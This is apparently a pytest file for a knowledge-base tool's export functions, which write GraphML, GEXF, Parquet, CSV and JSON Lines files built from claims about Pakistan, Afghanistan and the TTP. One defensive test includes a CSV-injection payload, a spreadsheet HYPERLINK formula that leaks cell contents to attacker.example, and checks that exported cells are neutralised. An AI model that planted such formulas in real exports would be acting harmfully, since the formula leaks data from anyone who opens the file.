"""Exports: the actor network as GraphML/GEXF (read back with networkx), flat tables as Parquet (pyarrow), CSV
and JSON Lines; the `export` command."""

from __future__ import annotations

import csv
import json

import networkx as nx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from kb_support import ENTITIES, doc_a, doc_b, invoke, make_doc

from claimgraph.store import Store, document_rows, exporters


@pytest.fixture
def kb_path(tmp_path):
    path = tmp_path / "kb.db"
    store = Store(str(path))
    ally = make_doc("Pakistan and Afghanistan agreed to reopen the border crossing. The TTP is based in Afghanistan.",
                    "c.txt", "2025-03-10", ENTITIES, [
                        {"subject": ["PAK", "AFG"], "predicate": "AGREE", "object": ["AFG", "PAK"],
                         "anchor": "agreed", "time": ("2025-03-09", "2025-03-09")},
                        {"subject": ["TTP"], "predicate": "BASED_IN", "object": ["AFG"], "anchor": "based in"},
                        {"subject": ["TTP"], "predicate": "ASSAULT", "object": ["AFG"], "anchor": "based in",
                         "negated": True}])
    for doc in (doc_a(), doc_b(), ally):
        store.write(document_rows(doc))
    store.regroup()
    yield path
    store.close()


def test_network_graphml_opens_in_networkx(kb_path, tmp_path):
    with Store(str(kb_path)) as store:
        (path,) = exporters.export(store, "graphml", tmp_path / "net.graphml")
    g = nx.read_graphml(path)
    assert isinstance(g, nx.MultiDiGraph)
    assert set(g.nodes) == {"TTP", "PAK", "AFG"}
    assert g.nodes["TTP"]["name"] == "Tehreek-e-Taliban Pakistan" and g.nodes["TTP"]["type"] == "armed_group"
    edges = {(u, v, d["predicate"]): d for u, v, d in g.edges(data=True)}
    attack = edges[("TTP", "PAK", "ASSAULT")]
    assert attack["kind"] == "conflict" and attack["quad"] == "material_conflict"
    assert (attack["claims"], attack["documents"]) == (2, 2)
    assert (attack["first_date"], attack["last_date"]) == ("2025-03-04", "2025-03-04")
    assert sorted(attack["sources"].split("; ")) == ["a.txt", "b.txt"]
    assert edges[("PAK", "AFG", "AGREE")]["kind"] == "cooperation"
    assert edges[("AFG", "PAK", "AGREE")]["kind"] == "cooperation"
    assert edges[("TTP", "AFG", "BASED_IN")]["kind"] == "neutral"
    assert ("TTP", "AFG", "ASSAULT") not in edges  # negated claims make no edge
    assert ("PAK", "AFG", "DISAPPROVE") in edges


def test_network_gexf_opens_in_networkx(kb_path, tmp_path):
    with Store(str(kb_path)) as store:
        (path,) = exporters.export(store, "gexf", tmp_path / "net.gexf")
    g = nx.read_gexf(path)
    assert set(g.nodes) == {"TTP", "PAK", "AFG"}
    kinds = sorted((u, v, d["predicate"], d["kind"]) for u, v, d in g.edges(data=True))
    assert ("TTP", "PAK", "ASSAULT", "conflict") in kinds and len(kinds) == 5


def test_parquet_tables_open_in_pyarrow(kb_path, tmp_path):
    with Store(str(kb_path)) as store:
        paths = exporters.export(store, "parquet", tmp_path / "out")
    assert sorted(p.name for p in paths) == ["claims.parquet", "edges.parquet", "nodes.parquet",
                                            "quantities.parquet"]
    claims = pq.read_table(tmp_path / "out" / "claims.parquet")
    assert claims.num_rows == 8
    assert str(claims.schema.field("time_start").type) == "date32[day]"
    assert pa.types.is_list(claims.schema.field("subject_ids").type)
    rows = claims.to_pylist()
    attack = next(r for r in rows if r["document_title"] is None and r["subject_ids"] == ["TTP"]
                  and r["predicate"] == "ASSAULT" and not r["negated"])
    assert attack["object_names"] == ["Pakistan"] and attack["kind"] == "conflict"
    quantities = pq.read_table(tmp_path / "out" / "quantities.parquet").to_pylist()
    assert sorted(q["value"] for q in quantities) == [14.0, 21.0]
    assert all(q["measure_disagreement"] for q in quantities)
    assert len({q["measure_key"] for q in quantities}) == 1
    edges = pq.read_table(tmp_path / "out" / "edges.parquet")
    assert edges.num_rows == 5


def test_empty_knowledge_base_exports_valid_files(tmp_path):
    with Store(str(tmp_path / "empty.db")) as store:
        exporters.export(store, "parquet", tmp_path / "out")
        exporters.export(store, "graphml", tmp_path / "empty.graphml")
    assert pq.read_table(tmp_path / "out" / "quantities.parquet").num_rows == 0
    assert nx.read_graphml(tmp_path / "empty.graphml").number_of_nodes() == 0


def test_export_command_csv_and_jsonl(kb_path, tmp_path):
    result = invoke("export", "--format", "csv", "--out", str(tmp_path / "csv"), "--db", str(kb_path))
    assert result.exit_code == 0, result.output
    with (tmp_path / "csv" / "edges.csv").open(encoding="utf-8") as f:
        edges = list(csv.DictReader(f))
    attack = next(e for e in edges if e["predicate"] == "ASSAULT")
    assert (attack["source"], attack["target"], attack["kind"], attack["claims"]) == ("TTP", "PAK", "conflict", "2")
    result = invoke("export", "--format", "jsonl", "--db", str(kb_path))
    assert result.exit_code == 0
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert {r["table"] for r in records} == {"nodes", "edges", "claims", "quantities"}
    assert sum(r["table"] == "claims" for r in records) == 8
    result = invoke("export", "--format", "graphml", "--db", str(kb_path))
    assert result.exit_code == 0 and result.stdout.lstrip().startswith("<?xml")


def test_export_command_errors(tmp_path):
    result = invoke("export", "--format", "graphml", "--db", str(tmp_path / "none.db"))
    assert result.exit_code == 2 and "no knowledge base" in result.stderr
    result = invoke("export", "--format", "pdf", "--db", str(tmp_path / "none.db"))
    assert result.exit_code == 2


def test_export_command_json_answers_and_errors(kb_path, tmp_path):
    """With --json, export says what it wrote as JSON, and its errors are the API's one JSON error shape."""
    result = invoke("export", "--format", "csv", "--out", str(tmp_path / "csv"), "--db", str(kb_path), "--json")
    assert result.exit_code == 0, result.output
    answer = json.loads(result.stdout)
    assert answer["format"] == "csv" and str(tmp_path / "csv" / "edges.csv") in answer["written"]
    result = invoke("export", "--format", "graphml", "--db", str(tmp_path / "none.db"), "--json")
    assert result.exit_code == 2
    assert json.loads(result.stdout) == {"error": {"kind": "store", "source": str(tmp_path / "none.db"), "message":
                                                   "no knowledge base here: run `claimgraph ingest` first"}}
    (tmp_path / "taken").write_text("a file where the export wants a folder")
    result = invoke("export", "--format", "csv", "--out", str(tmp_path / "taken"), "--db", str(kb_path), "--json")
    assert result.exit_code == 2
    error = json.loads(result.stdout)["error"]
    assert error["kind"] == "bad_input" and error["source"] == str(tmp_path / "taken")
    assert error["message"].startswith("cannot write there")


def test_csv_cells_cannot_start_a_formula(tmp_path):
    """Text from articles (a title, a name, a sentence) that a spreadsheet would run as a formula is written
    with a leading apostrophe (OWASP, CSV Injection); JSON Lines keeps the exact text, numbers stay numbers."""
    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    entities = {"RAID": (evil, "armed_group", ["Raiders"]), "PAK": ENTITIES["PAK"]}
    doc = make_doc("@Raiders attacked Pakistan on Monday. Officials said it was over.", "+1-cmd.txt",
                   "2025-03-10", entities, [{"subject": ["RAID"], "predicate": "ASSAULT", "object": ["PAK"],
                                             "anchor": "attacked"}])
    path = tmp_path / "kb.db"
    with Store(str(path)) as store:
        store.write(document_rows(doc))
        store.regroup()
    result = invoke("export", "--format", "csv", "--out", str(tmp_path / "csv"), "--db", str(path))
    assert result.exit_code == 0, result.output
    with (tmp_path / "csv" / "nodes.csv").open(encoding="utf-8", newline="") as f:
        nodes = {row["id"]: row for row in csv.DictReader(f)}
    assert nodes["RAID"]["name"] == "'" + evil
    assert nodes["PAK"]["name"] == "Pakistan" and nodes["RAID"]["mentions"] == "1"
    with (tmp_path / "csv" / "claims.csv").open(encoding="utf-8", newline="") as f:
        (claim,) = list(csv.DictReader(f))
    assert claim["evidence_text"] == "'@Raiders attacked Pakistan on Monday."
    assert claim["document_source"] == "'+1-cmd.txt"
    assert claim["subject_names"] == "'" + evil
    assert claim["object_names"] == "Pakistan"
    assert claim["evidence_start"] == "0"
    result = invoke("export", "--format", "jsonl", "--db", str(path))
    names = {r["id"]: r["name"] for r in map(json.loads, result.stdout.splitlines()) if r["table"] == "nodes"}
    assert names["RAID"] == evil


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), ("'quoted", "'quoted"), (" =x", " =x"),
])
def test_neutralise_cell(cell, written):
    assert exporters.neutralise_cell(cell) == written
    assert exporters._csv_value(cell) == written
    assert exporters._csv_value([cell, "=b"]) == written + "; =b"  # a list is one cell: its start counts


def test_csv_numbers_are_not_changed():
    assert exporters._csv_value(-3) == -3 and exporters._csv_value(-0.5) == -0.5
